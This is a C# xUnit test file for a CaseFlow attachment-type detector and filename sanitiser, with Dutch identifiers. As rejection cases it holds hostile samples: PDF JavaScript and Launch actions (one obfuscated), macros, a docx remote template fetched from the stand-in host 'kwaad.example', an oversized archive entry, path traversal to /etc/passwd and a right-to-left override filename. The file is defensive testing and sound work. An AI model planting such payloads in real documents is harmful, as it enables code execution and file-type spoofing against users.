using System.Text;
using CaseFlow.Bijlagen;
using CaseFlow.Shared;
using Shouldly;
using Xunit;

namespace CaseFlow.Tests.Bijlagen;

/// <summary>What a file is follows from what it holds; what can run is refused, however it is hidden.</summary>
public sealed class BestandstypeTests
{
    public static TheoryData<string, byte[], string> Goed => new()
    {
        { "verwijzing.pdf", Proefbestanden.Pdf(), "application/pdf" },
        { "verpakt.pdf", Proefbestanden.PdfMetVerpakt("<< /Type /Page >>"), "application/pdf" },
        // The name of a font or the bytes of a picture may look like anything.
        { "lettertype.pdf", Proefbestanden.Pdf("1 0 obj\n<< /BaseFont /JSFont /Length 4 >>\nstream\n/JS \nendstream\nendobj\n"), "application/pdf" },
        { "foto.JPEG", [0xFF, 0xD8, 0xFF, 0xE0, 1, 2, 3], "image/jpeg" },
        { "foto.png", [0x89, 0x50, 0x4E, 0x47, 0x0D, 0x0A, 0x1A, 0x0A, 1], "image/png" },
        { "brief.docx", Proefbestanden.Zip(("[Content_Types].xml", "<x/>"), ("word/document.xml", "<x/>")), "application/vnd.openxmlformats-officedocument.wordprocessingml.document" },
        { "brief.odt", Proefbestanden.Zip(("mimetype", "application/vnd.oasis.opendocument.text"), ("content.xml", "<x/>")), "application/vnd.oasis.opendocument.text" },
        { "notitie.txt", Encoding.UTF8.GetBytes("Mevrouw belde één keer."), "text/plain" },
    };

    public static TheoryData<string, byte[], string> Fout => new()
    {
        { "rekening.pdf", "MZ\u0090\0"u8.ToArray(), "bijlage-soort-onbekend" },
        { "rekening.pdf.exe", Proefbestanden.Pdf(), "bijlage-naam-klopt-niet" },
        { "pagina.html", "<script>alert(1)</script>"u8.ToArray(), "bijlage-naam-klopt-niet" },
        { "tekening.svg", "<svg onload='x()'/>"u8.ToArray(), "bijlage-naam-klopt-niet" },
        { "foto.jpg", Proefbestanden.Pdf(), "bijlage-naam-klopt-niet" },
        { "leeg.txt", [], "bijlage-soort-onbekend" },
        { "archief.docx", Proefbestanden.Zip(("iets.txt", "x")), "bijlage-soort-onbekend" },
        { "kapot.docx", [.. "PK\u0003\u0004"u8, 1, 2, 3], "bijlage-soort-onbekend" },
        { "programma.pdf", Proefbestanden.Pdf("1 0 obj\n<< /OpenAction << /S /JavaScript /JS (x) >> >>\nendobj\n"), "bijlage-actief" },
        { "verstopt.pdf", Proefbestanden.Pdf("1 0 obj\n<< /S /J#61vaScript >>\nendobj\n"), "bijlage-actief" },
        { "verpakt.pdf", Proefbestanden.PdfMetVerpakt("<< /S /Launch /F (x.exe) >>"), "bijlage-actief" },
        { "erin.pdf", Proefbestanden.Pdf("1 0 obj\n<< /Names << /EmbeddedFiles 2 0 R >> >>\nendobj\n"), "bijlage-actief" },
        { "slot.pdf", Proefbestanden.Pdf("trailer\n<< /Encrypt 9 0 R >>\n"), "bijlage-versleuteld" },
        { "macro.docx", Proefbestanden.Zip(("word/document.xml", "<x/>"), ("word/vbaProject.bin", "x")), "bijlage-actief" },
        { "macro.odt", Proefbestanden.Zip(("mimetype", "application/vnd.oasis.opendocument.text"), ("Basic/Standard/Module1.xml", "x")), "bijlage-actief" },
        { "sjabloon.docx", Proefbestanden.Zip(("word/document.xml", "<x/>"), ("word/_rels/settings.xml.rels", """<Relationship Type="http://x/attachedTemplate" Target="http://kwaad.example/x.dotm" TargetMode="External"/>""")), "bijlage-actief" },
        { "bom.docx", Proefbestanden.Zip(("word/document.xml", "<x/>"), ("word/_rels/a.rels", new string('a', 8_000_000))), "bijlage-te-groot" },
    };

    [Theory]
    [MemberData(nameof(Goed))]
    public void A_file_is_known_by_what_it_holds(string naam, byte[] inhoud, string mediatype) =>
        Bestandstype.Van(inhoud, naam).Mediatype.ShouldBe(mediatype);

    [Theory]
    [MemberData(nameof(Fout))]
    public void What_is_not_what_it_says_or_can_run_is_refused(string naam, byte[] inhoud, string fout) =>
        Should.Throw<WeigeringException>(() => Bestandstype.Van(inhoud, naam)).Id.ShouldBe(fout);

    [Theory]
    [InlineData("../../etc/passwd.txt", "passwd.txt")]
    [InlineData("C:\\Users\\ik\\brief van arts.pdf", "brief van arts.pdf")]
    [InlineData("brief\u202Efdp.exe.pdf", "brieffdp.exe.pdf")]
    [InlineData("a\0b\r\nc: d.pdf", "abc d.pdf")]
    [InlineData("....pdf", "bijlage.pdf")]
    public void A_name_is_safe_on_every_system(string naam, string veilig) => BijlageService.VeiligeNaam(naam).ShouldBe(veilig);

    [Fact]
    public void A_very_long_name_keeps_its_end() => BijlageService.VeiligeNaam(new string('a', 400) + ".pdf").ShouldBe(new string('a', 116) + ".pdf");
}
